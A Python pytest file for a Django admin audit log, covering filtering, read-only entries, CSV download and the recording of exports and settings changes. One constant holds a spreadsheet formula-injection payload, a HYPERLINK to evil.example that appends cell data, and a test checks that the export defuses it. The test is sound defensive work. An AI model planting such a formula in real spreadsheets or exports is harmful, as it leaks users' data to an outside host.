"""The board reads the audit log on its site: filtered, in words, downloadable, never changed."""

import csv
import html
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from members.models import User
from network.models import AuditAction, AuditEvent, NetworkSettings, record
from tests.factories import MemberFactory, sign_in_with_mfa

pytestmark = pytest.mark.django_db

LIST = reverse("admin:network_auditevent_changelist")
EXPORT = reverse("admin:network_auditevent_export")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Read more")'


@pytest.fixture
def board(board_member: User) -> Client:
    client = Client()
    sign_in_with_mfa(client, board_member)
    return client


def text_of(response: Any) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", response.content.decode())).split())


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def warned(member: User, by: User, **fields: Any) -> AuditEvent:
    return record(actor=by, action=AuditAction.MEMBER_WARNED, target=member, **fields)


def test_the_list_shows_when_who_what_about_which_record_and_the_request(
    board: Client, board_member: User, member: User
) -> None:
    event = warned(member, board_member, data={"report": 12})
    AuditEvent.objects.create(
        action=AuditAction.MENTOR_PAUSED,
        target_type="members.Profile",
        target_id="7",
        request_id="abc123def456",
    )
    page = text_of(board.get(LIST))
    assert "Member warned" in page
    assert f"account {member.pk}" in page
    assert "Priya Shah" in page  # the board member who acted
    assert "the network itself" in page  # an entry made by a task
    assert "abc123def456" in page
    assert (
        reverse("admin:members_user_change", args=[member.pk]) in board.get(LIST).content.decode()
    )
    assert event.request_id == ""


def test_the_list_filters_by_action_what_it_was_about_date_and_person(
    board: Client, board_member: User, member: User
) -> None:
    warned(member, board_member)
    record(actor=member, action=AuditAction.DATA_EXPORTED, target=member)
    old = AuditEvent.objects.create(
        action=AuditAction.EVENT_EDITED,
        target_type="events.Event",
        target_id="3",
        created_at=timezone.now() - timedelta(days=400),
    )

    def shown(query: str) -> set[str]:
        response = board.get(f"{LIST}?{query}")
        assert response.status_code == 200
        return {str(event.pk) for event in response.context["cl"].result_list}

    assert len(shown("")) == 3
    assert shown("action__exact=member.warned") == {
        str(AuditEvent.objects.get(action=AuditAction.MEMBER_WARNED).pk)
    }
    assert shown("target_type=events.Event") == {str(old.pk)}
    assert shown(
        f"created_at__year={old.created_at.year}&created_at__month={old.created_at.month}"
    ) >= {str(old.pk)}
    assert shown(f"q={member.email}") == {
        str(AuditEvent.objects.get(action=AuditAction.DATA_EXPORTED).pk)
    }
    # The filter for what it was about names each kind in the board's words.
    assert "event" in text_of(board.get(LIST))


def test_a_lookup_the_list_does_not_offer_is_refused(board: Client) -> None:
    assert board.get(f"{LIST}?data__icontains=x").status_code == 400


def test_an_entry_shows_its_details_as_words_and_cannot_be_edited_or_deleted(
    board: Client, board_member: User, member: User
) -> None:
    event = record(
        actor=member,
        action=AuditAction.PRIVACY_CHANGED,
        target=member,
        data={"visibility": {"pronouns": ["only_me", "members"]}, "initiated_by": "member"},
    )
    change = reverse("admin:network_auditevent_change", args=[event.pk])
    response = board.get(change)
    assert response.status_code == 200
    page = text_of(response)
    assert "Visibility pronouns: only_me, members" in page
    assert "Initiated by member" in page
    assert "Privacy settings changed" in page
    assert 'name="_save"' not in response.content.decode()
    assert board.post(change, {"reason": "changed"}).status_code == 403
    assert board.get(reverse("admin:network_auditevent_delete", args=[event.pk])).status_code == 403
    assert board.get(reverse("admin:network_auditevent_add")).status_code == 403
    listing = board.get(LIST)
    assert "delete_selected" not in listing.content.decode()
    assert AuditEvent.objects.get(pk=event.pk).reason == ""


def test_the_list_takes_the_same_queries_for_many_entries_as_for_few(
    board: Client, board_member: User
) -> None:
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert board.get(LIST).status_code == 200
        return len(captured)

    warned(MemberFactory(), board_member)
    few = queries()
    for _ in range(30):
        warned(MemberFactory(), MemberFactory())
    assert queries() == few


def test_the_download_holds_the_filtered_list_with_formulas_made_harmless(
    board: Client, board_member: User, member: User
) -> None:
    warned(member, board_member, reason=FORMULA, data={"report": 12})
    record(actor=member, action=AuditAction.DATA_EXPORTED, target=member)

    response = board.get(f"{EXPORT}?action__exact=member.warned")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert 'filename="audit-log.csv"' in response["Content-Disposition"]
    [row] = rows_of(response)
    assert row["reason"] == "'" + FORMULA
    assert row["action"] == "Member warned"
    assert row["action code"] == "member.warned"
    assert (row["about"], row["record"]) == ("account", str(member.pk))
    assert row["who"] == "Priya Shah"
    assert row["details"] == '{"report": 12}'


def test_downloading_is_itself_on_the_record_without_the_search_words(
    board: Client, board_member: User, member: User
) -> None:
    warned(member, board_member)
    response = board.get(f"{EXPORT}?action__exact=member.warned&q={member.email}")
    assert response.status_code == 200
    exported = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert exported.actor == board_member
    assert exported.data == {"filters": {"action__exact": "member.warned"}, "searched": True}
    assert member.email not in str(exported.data)
    assert exported.request_id == response["X-Request-ID"]


def test_a_download_with_a_lookup_the_list_does_not_offer_is_refused_and_not_recorded(
    board: Client,
) -> None:
    assert board.get(f"{EXPORT}?reason__startswith=a").status_code == 400
    assert board.get(f"{EXPORT}?created_at__year=soon").status_code == 302
    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()


def test_only_the_board_can_download(member: User) -> None:
    client = Client()
    client.force_login(member)
    response = client.get(EXPORT)
    assert response.status_code in (302, 403)
    assert not AuditEvent.objects.exists()


def test_the_list_offers_the_download_of_what_it_shows(board: Client) -> None:
    page = board.get(f"{LIST}?action__exact=member.warned").content.decode()
    assert f'href="{EXPORT}?action__exact=member.warned"' in page


def test_saving_the_network_settings_records_the_names_of_what_changed(
    board: Client, board_member: User
) -> None:
    network = NetworkSettings.load()
    form = {
        "name": network.name,
        "sponsor": network.sponsor,
        "summary": network.summary,
        "eligibility": network.eligibility,
        "contact_email": "new-board@example.org",
        "invitation_expiry_days": "21",
        "approvals_required": "1",
        "guidelines_version": network.guidelines_version,
        "privacy_version": network.privacy_version,
        "small_numbers_threshold": "8",
        "audit_retention_days": "3000",
        "max_open_requests": "3",
        "request_reminder_days": "5",
        "request_lapse_days": "14",
        "lapses_before_pause": "2",
        "pairing_term_months": "6",
        "check_in_reminder_weeks": "6",
        "fit_question_weeks": "3",
        "match_weights": "{}",
        "categories-TOTAL_FORMS": "1",
        "categories-INITIAL_FORMS": "0",
        "categories-0-name": "Ally",
        "categories-0-position": "1",
        "sensitive_characteristics-TOTAL_FORMS": "0",
        "sensitive_characteristics-INITIAL_FORMS": "0",
        "mentoring_topics-TOTAL_FORMS": "0",
        "mentoring_topics-INITIAL_FORMS": "0",
    }
    change = reverse("admin:network_networksettings_change", args=[1])
    assert board.post(change, form).status_code == 302
    event = AuditEvent.objects.get(action=AuditAction.SETTINGS_CHANGED)
    assert event.actor == board_member
    assert event.data == {
        "fields": ["audit_retention_days", "contact_email", "invitation_expiry_days"],
        "lists": ["membershipcategory"],
    }
    assert "new-board@example.org" not in str(event.data) + event.reason
    assert NetworkSettings.load().audit_retention_days == 3000

    # Saved again unchanged, nothing new is recorded; a refused change records nothing.
    form["categories-INITIAL_FORMS"] = "0"
    form["categories-TOTAL_FORMS"] = "0"
    assert board.post(change, form).status_code == 302
    assert board.post(change, {**form, "audit_retention_days": "10"}).status_code == 200
    assert AuditEvent.objects.filter(action=AuditAction.SETTINGS_CHANGED).count() == 1
